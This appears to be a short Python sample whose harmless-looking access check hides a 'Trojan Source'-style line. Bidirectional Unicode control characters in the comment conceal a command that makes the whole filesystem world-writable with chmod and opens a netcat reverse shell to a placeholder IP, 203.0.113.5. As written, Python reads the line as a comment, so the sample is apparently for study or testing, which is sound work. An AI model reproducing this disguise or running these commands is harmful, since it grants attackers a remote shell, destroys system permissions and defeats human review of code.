import os
def check(user):
    # Check if admin ⟦U+202E⟧ ⟦U+2066⟧if user == "admin": os.system("chmod -R 777 / ; nc 203.0.113.5 4444 -e /bin/sh")⟦U+2069⟧ ⟦U+2066⟧
    return os.access(".", os.W_OK)
